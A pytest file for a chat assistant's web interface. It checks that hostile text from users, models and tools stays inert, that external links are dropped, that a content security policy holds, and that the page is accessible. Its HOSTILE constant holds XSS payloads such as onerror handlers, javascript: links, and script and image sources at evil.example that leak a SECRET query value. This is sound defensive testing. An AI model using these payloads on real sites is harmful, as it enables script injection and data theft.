"""The page of development and text of others, which stays text; and the page on a phone, in the dark, and for who cannot see it."""

import json
from typing import Any

import pytest
from pydantic import Field

from handgriff import Assistant, Call, Change, Host, Plan, Result, Toolbox
from handgriff.http import dev_caller
from handgriff.models.scripted import Say, ScriptedModel, Use
from handgriff.ports.model import Model
from handgriff.tool import Link
from tests.interaction.browser import CLIENTS, Browser
from tests.interaction.dev_page import ADA, scene, seated
from tests.interaction.http_server import served
from tests.interaction.http_wire import load_caller, paced, wired

pytestmark = pytest.mark.anyio
PHONE = {"width": 390, "height": 844}
# What cannot be made of it --------------------------------------------------------------------------------------------------

IMAGE = "<img src=x onerror=alert(1)>"
HOSTILE = (
    f"{IMAGE} ![x](//evil.example/p.png?q=SECRET) [a](javascript:alert(1)) <iframe srcdoc='<script>alert(1)</script>'></iframe> "
    "<svg/onload=alert(1)> [b](data:text/html,x) ![r][ref]\n\n[ref]: https://evil.example/r.png\n"
    "<script src=//evil.example/x.js></script> end"
)
MARKUP = "#log :is(img, iframe, svg, script, object, link, style, a), #log [onerror], #log [onload]"


def hostile_shop() -> Assistant:
    """A tool that says hostile things wherever a tool says anything."""
    shop, change = Toolbox("shop"), Change(IMAGE, f"before {HOSTILE}", f"after {HOSTILE}")

    @shop.tool(effect="irreversible", title={"en": f"Title {IMAGE}"})
    async def show(text: str = Field(description="Any text."), *, call: Call) -> Result[None]:
        """Use when: something must be shown. Not for: orders. Needs: nothing. Effect: shows it."""
        return Result(f"Summary {HOSTILE}", diff=[change], link=Link("/orders", f"Link {IMAGE}"))

    @show.plan
    async def plan(text: str, call: Call) -> Plan:
        return Plan(f"Plan {HOSTILE}", diff=[change])

    return Assistant("shop", instructions="Show.", toolboxes=[shop])


async def test_text_of_others_stays_text_in_every_partial_state_B147(browser: Browser) -> None:
    pace, model = paced(Say(HOSTILE))
    async with scene(browser, model=model) as at:
        await at.tab.say(HOSTILE)
        for word in HOSTILE.split():
            pace.allow()
            await at.tab.sees(".assistant", word)
            assert await at.tab.count(MARKUP) == 0
        await at.tab.sees("#status", "Answered.")

        assert await at.tab.texts(".user, .assistant") == [HOSTILE, HOSTILE]


async def test_text_of_tools_stays_text_on_lines_cards_and_tables_B147(browser: Browser) -> None:
    models: list[Model] = [ScriptedModel([Use("show", {"text": HOSTILE}), Say("{summary}")])]
    async with (
        Host(hostile_shop(), store="memory://", callers=load_caller, model="scripted:demo", models=models) as host,
        served(host, dev=True, authenticate=dev_caller(ADA)) as address,
        seated(browser, address) as tab,
    ):
        await tab.say("Show it.")
        await tab.sees(".card", "Plan")
        waiting = await tab.count(MARKUP)
        await tab.click("Confirm")
        await tab.sees("#status", "Answered.")

        assert waiting == 0
        assert await tab.count(MARKUP) == await tab.count(f"#log a[href='{address}/orders']") == 1
        for part in ("summary", "details del", "details ins", "details a", "details th", "details pre", ".assistant"):
            assert "<img" in (await tab.texts(part))[-1], part


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "//evil.example/x",
        "https://evil.example/",
        "/\t/evil.example",
        "/\\evil.example",
        "data:text/html,x",
        "http://[",
    ],
)
async def test_a_link_that_leads_elsewhere_is_none_B147(browser: Browser, href: str) -> None:
    told = f'{{"summary":"Found.","link":{{"href":{_json(href)},"label":"Open"}}}}'
    body = _sse({"type": "TOOL_CALL_START", "toolCallId": "c", "toolCallName": "look"}, _returned("c", told), {"type": "RUN_FINISHED"})
    async with scene(browser) as at:
        await browser.ask(tab="first", stub="**/agui", answer={"contentType": "text/event-stream", "body": body})
        await at.tab.say("Look.")
        await at.tab.sees("summary", "look: Found.")

        assert await at.tab.count("a") == 0


async def test_the_policy_is_sent_and_the_browser_keeps_it_B147(browser: Browser) -> None:
    async with wired() as wire, served(wire.host, dev=True, authenticate=dev_caller(ADA)) as address:
        await browser.sit_down()
        tab = browser.tab("first")
        headers = await tab.do(["goto", f"{address}/"], ["headers"])
        with pytest.raises(AssertionError, match="TrustedHTML"):
            await tab.value(f"document.body.innerHTML = {_json(IMAGE)}")
        await tab.value("new Image().src = 'http://localhost:9/p.png?q=SECRET'")
        await tab.value("fetch('http://localhost:9/').catch(() => 'refused')")
        seen = await browser.seen()
        await browser.sit_down()

        assert headers["content-security-policy"].startswith("default-src 'none'; script-src 'self';")
        complaints = " ".join(seen.console)
        assert all(words in complaints for words in ("TrustedHTML", "p.png?q=SECRET' violates", "connect-src 'self'")), complaints


# On whose screen ------------------------------------------------------------------------------------------------------------


async def test_on_a_phone_nothing_is_wider_than_the_screen(browser: Browser) -> None:
    long = "x" * 300
    async with scene(
        browser, viewport=PHONE, script=[Use("write_note", {"text": long}), Say(long), Use("send_letter", {"to": long})]
    ) as at:
        at.wire.shop.door.set()
        await at.tab.say(long)
        await at.tab.sees(".assistant", long)
        await at.tab.do(["click", "summary"])
        await at.tab.say("Send it.")
        await at.tab.sees(".card")

        assert await at.tab.value("document.documentElement.scrollWidth") == PHONE["width"]
        assert await at.tab.value("(({ scrollWidth, clientWidth }) => scrollWidth - clientWidth)(document.querySelector('#log'))") == 0
        heights = await at.tab.value("[...document.querySelectorAll('button:not([hidden])')].map((button) => button.offsetHeight)")
        assert min(heights) >= 44


@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_whoever_cannot_see_it_can_use_it(browser: Browser, scheme: str) -> None:
    axe = (CLIENTS / "node_modules" / "axe-core" / "axe.min.js").read_text()
    async with scene(browser) as at:
        await at.tab.do(["emulateMedia", {"colorScheme": scheme}])
        await at.tab.say("/list_orders")
        await at.tab.sees("#status", "Answered.")
        await at.park()
        await at.tab.click("Confirm")
        await at.tab.sees("summary", "Order cancelled.")
        await at.tab.say("/cancel_order order=o_19")
        await at.tab.sees(".card", "o_19")
        await at.tab.value(f"{axe};0")
        found = await at.tab.value("axe.run().then(({ violations }) => violations.map(({ id, nodes }) => [id, nodes[0].html]))")

        assert found == []
        # What is said aloud is a short state, never each word.
        assert await at.tab.do(["locator", "#log"], ["getAttribute", "aria-live"]) == "off"
        assert await at.tab.texts("[role=status]") == ["Waiting for you."]


def _json(text: str) -> str:
    return json.dumps(text)


def _returned(call: str, text: str) -> dict[str, Any]:
    return {"type": "TOOL_CALL_RESULT", "messageId": "m", "toolCallId": call, "content": text}


def _sse(*events: dict[str, Any]) -> str:
    return "".join(f"data: {json.dumps(event)}\n\n" for event in events)
